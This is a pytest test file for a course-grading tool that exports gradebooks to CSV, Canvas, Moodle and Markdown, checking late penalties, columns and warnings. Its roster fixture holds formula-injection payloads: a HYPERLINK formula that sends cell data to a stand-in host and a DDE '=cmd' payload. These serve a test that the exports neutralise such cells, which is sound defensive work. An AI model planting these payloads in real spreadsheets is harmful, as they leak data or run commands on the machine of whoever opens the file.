"""Grades out, pure: ledger + course file + roster -> gradebook files."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from classroom_ops.checks.ledger import Entry, Ledger
from classroom_ops.config import course_from_text
from classroom_ops.errors import ConfigError
from classroom_ops.grades import build_rows, ledger_warnings
from classroom_ops.grades.formats import cell, render
from classroom_ops.model import LatePolicy
from classroom_ops.names import slugify
from classroom_ops.roster import read_roster

COURSE = """\
course: {{name: C, term: t1, org: o, timezone: America/New_York, start: 2026-08-31}}
repos: {{template: owner/tpl, name: "final-{{team}}"}}
roster: roster.csv
milestones:
  - {{id: proposal, title: Project Proposal, due: "2026-10-09 23:59"}}
  - {{id: final, title: Final Report, due: "2026-12-11 23:59"}}
{policy}
"""
ROSTER = """\
team,github_username,name,id
Équipe Ünïcode,alice,Alice Durand,1001
Équipe Ünïcode,bob,"=HYPERLINK(""http://x.example/?""&A1,""click"")",1002
=cmd|' /C calc'!A0,carol,+Carol,-3
"""
DUE = datetime.fromisoformat("2026-10-09T23:59:00-04:00")


def course(tmp_path, policy=""):
    (tmp_path / "roster.csv").write_text(ROSTER)
    return course_from_text(COURSE.format(policy=policy), str(tmp_path / "c.yml"),
                            base_dir=tmp_path)


def ledger(tmp_path) -> Ledger:
    led = Ledger(tmp_path / "ledger.json", org="o")
    base = {"deadline": DUE.isoformat(), "judged_at": (DUE + timedelta(days=1)).isoformat(),
            "pushed_at": DUE.isoformat()}
    led.put(slugify("Équipe Ünïcode"), "proposal", Entry(
        status="late", commit="a" * 40, late_commit="b" * 40,
        late_pushed_at=(DUE + timedelta(hours=30)).isoformat(),
        late_by_seconds=30 * 3600, **base))
    led.put("cmd-c-calc-a0", "proposal", Entry(
        status="missing", commit="c" * 40,
        findings=[{"path": "proposal.md", "rule": "sections", "line": None,
                   "message": "proposal.md has no '@ta-kim =1+1' section"}], **base))
    return led


def table(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_late_policy_ten_percent_per_day_zero_after_three_days():
    p = LatePolicy(10, timedelta(days=1), timedelta(days=3))
    assert p.score(timedelta(0)) == 100
    assert p.score(timedelta(minutes=1)) == 90  # a started day counts
    assert p.score(timedelta(hours=30)) == 80
    assert p.score(timedelta(days=3)) == 70
    assert p.score(timedelta(days=3, seconds=1)) == 0


def test_roster_keeps_names_and_ids_of_both_shapes():
    rows, _ = read_roster("identifier,github_username,github_id,name,group_name\n"
                          "s123@uni.edu,alice,101,Alice A,Team\n", "r.csv")
    assert (rows[0].name, rows[0].student_id) == ("Alice A", "s123@uni.edu")
    rows, _ = read_roster("team,github_username,name,student_id,email\nT,bob,Bob B,77,b@u\n",
                          "r.csv")
    assert (rows[0].name, rows[0].student_id, rows[0].email) == ("Bob B", "77", "b@u")


def test_csv_has_the_contract_columns_and_no_score_without_a_policy(tmp_path):
    c = course(tmp_path)
    rows = build_rows(c, ledger(tmp_path), list(c.milestones), DUE + timedelta(days=2))
    out = render("csv", c, rows, list(c.milestones))
    assert out.splitlines()[0] == ("login,name,id,team,proposal:state,proposal:late_hours,"
                                   "proposal:commit,final:state,final:late_hours,final:commit")
    got = {r["login"]: r for r in table(out)}
    assert got["alice"]["name"] == "Alice Durand" and got["alice"]["id"] == "1001"
    assert got["alice"]["team"] == "Équipe Ünïcode"
    assert (got["alice"]["proposal:state"], got["alice"]["proposal:late_hours"],
            got["alice"]["proposal:commit"]) == ("late", "30", "b" * 7)
    assert got["carol"]["proposal:state"] == "missing"
    assert got["carol"]["proposal:commit"] == "c" * 7
    assert got["carol"]["final:state"] == "pending" and got["carol"]["final:commit"] == ""


def test_scores_follow_the_late_policy_in_every_format(tmp_path):
    c = course(tmp_path, "policy:\n  late: {penalty: 10%, per: 1d, zero_after: 3d}")
    rows = build_rows(c, ledger(tmp_path), list(c.milestones), DUE + timedelta(days=2))
    got = {r["login"]: r for r in table(render("csv", c, rows, list(c.milestones)))}
    assert got["alice"]["proposal:score"] == "80"  # 30 h late: two started days
    assert got["carol"]["proposal:score"] == "0"  # missing
    assert got["carol"]["final:score"] == ""  # not judged: no score, never a zero
    canvas = table(render("canvas", c, rows, list(c.milestones)))
    assert list(canvas[0])[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    alice = next(r for r in canvas if r["SIS User ID"] == "1001")
    assert alice["Student"] == "Alice Durand" and alice["Project Proposal"] == "80"
    assert alice["Final Report"] == ""
    moodle = table(render("moodle", c, rows, list(c.milestones)))
    alice = next(r for r in moodle if r["ID number"] == "1001")
    assert alice["Project Proposal"] == "80"
    assert alice["Feedback: Project Proposal"] == "late 30 h; commit bbbbbbb"


def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    c = course(tmp_path, "policy:\n  late: {penalty: 10}")
    rows = build_rows(c, ledger(tmp_path), list(c.milestones), DUE)
    for fmt in ("csv", "canvas", "moodle"):
        for record in csv.reader(io.StringIO(render(fmt, c, rows, list(c.milestones)))):
            for value in record:
                assert not value.startswith(("=", "+", "-", "@")), (fmt, value)
    got = {r["login"]: r for r in table(render("csv", c, rows, list(c.milestones)))}
    assert got["bob"]["name"].startswith("'=HYPERLINK(")
    assert got["carol"]["team"] == "'=cmd|' /C calc'!A0"
    assert got["carol"]["name"] == "'+Carol" and got["carol"]["id"] == "'-3"
    assert cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert cell("a\x1b[31mb\u202e") == "a[31mb"  # no terminal escapes, no bidi overrides


def test_markdown_links_the_commit_and_quotes_findings_inertly(tmp_path):
    c = course(tmp_path)
    rows = build_rows(c, ledger(tmp_path), list(c.milestones), DUE + timedelta(days=2))
    md = render("markdown", c, rows, list(c.milestones), "https://ghe.example/")
    assert f"[bbbbbbb](https://ghe.example/o/final-{slugify('Équipe Ünïcode')}/commit/{'b' * 40})" in md
    assert "@ta-kim" not in md and "@&#8203;ta-kim" in md  # no ping
    assert md.count("proposal.md has no") == 1  # once per team, not per student


def test_judgments_not_recorded_are_pending_or_unchecked_never_zero(tmp_path):
    c = course(tmp_path, "policy:\n  late: {penalty: 10}")
    after_final = datetime(2026, 12, 20, tzinfo=UTC)
    rows = build_rows(c, Ledger(tmp_path / "none.json"), list(c.milestones), after_final)
    assert {g.state for r in rows for g in r.grades.values()} == {"unchecked"}
    assert {g.score for r in rows for g in r.grades.values()} == {None}


def test_ledger_entries_the_course_no_longer_has_are_warned_about(tmp_path):
    c = course(tmp_path)
    led = ledger(tmp_path)
    led.put("old-team", "proposal", led.get("cmd-c-calc-a0", "proposal"))
    assert ledger_warnings(c, led) == [
        "the ledger has judgments for team 'old-team', which is not in the course file; its "
        "students get no row"]


@pytest.mark.parametrize("late,message", [
    ("{penalty: 120%}", "between 0 and 100"),
    ("{penalty: 10, per: 0d}", "longer than 0"),
    ("{per: 1d}", "penalty"),
])
def test_a_wrong_late_policy_is_one_clear_error(tmp_path, late, message):
    with pytest.raises(ConfigError) as e:
        course(tmp_path, f"policy:\n  late: {late}")
    assert message in str(e.value) and "c.yml:" in str(e.value)


def test_a_signed_off_meeting_has_a_state_and_a_score_but_no_commit(tmp_path):
    text = COURSE.format(policy="policy:\n  late: {penalty: 25%}\nstaff: {members: [ta]}")
    text = text.replace(
        "  - {id: final,",
        "  - {id: midpoint, title: Midpoint, kind: meeting, due: \"2026-10-30 17:00\",\n"
        "     slots: [{at: \"2026-10-26 10:00\", staff: [ta]}]}\n  - {id: final,")
    (tmp_path / "roster.csv").write_text(ROSTER)
    c = course_from_text(text, str(tmp_path / "c.yml"), base_dir=tmp_path)
    led = ledger(tmp_path)
    due = c.milestone("midpoint").due
    led.put("cmd-c-calc-a0", "midpoint", Entry(
        status="late", deadline=due.isoformat(), judged_at=(due + timedelta(hours=5)).isoformat(),
        commit=None, pushed_at=None, late_by_seconds=5 * 3600))
    rows = build_rows(c, led, list(c.milestones), due + timedelta(days=1))
    got = {r["login"]: r for r in table(render("csv", c, rows, list(c.milestones)))}
    assert (got["carol"]["midpoint:state"], got["carol"]["midpoint:late_hours"],
            got["carol"]["midpoint:commit"], got["carol"]["midpoint:score"]) == (
        "late", "5", "", "75")
    assert got["alice"]["midpoint:state"] == "unchecked"
    md = render("markdown", c, rows, list(c.milestones))
    assert "late 5 h, 75%" in md


def test_canvas_without_sis_ids_warns_once_and_excused_scores_100(tmp_path):
    from classroom_ops.grades.formats import canvas_warnings

    c = course(tmp_path, "policy:\n  late: {penalty: 10%, per: 1d, zero_after: 3d}")
    led = ledger(tmp_path)
    led.put(slugify("Équipe Ünïcode"), "final", Entry(
        status="excused", commit=None, deadline=DUE.isoformat(),
        judged_at=(DUE + timedelta(days=1)).isoformat(), pushed_at=None))
    rows = build_rows(c, led, list(c.milestones), DUE + timedelta(days=90))
    assert canvas_warnings(rows) == []  # every student has an id
    alice = next(r for r in table(render("canvas", c, rows, list(c.milestones)))
                 if r["SIS User ID"] == "1001")
    assert alice["Final Report"] == "100"  # docs/grades.md: excused scores 100
    (tmp_path / "roster.csv").write_text("team,github_username\nT,alice\nT,bob\n")
    c = course_from_text(COURSE.format(policy=""), str(tmp_path / "c.yml"), base_dir=tmp_path)
    rows = build_rows(c, Ledger(tmp_path / "l.json", org="o"), list(c.milestones), DUE)
    [warning] = canvas_warnings(rows)
    assert warning.startswith("2 of 2 students have no SIS id (first: alice)")
    assert "SIS User ID" in warning and "`id`" in warning and "`email`" in warning
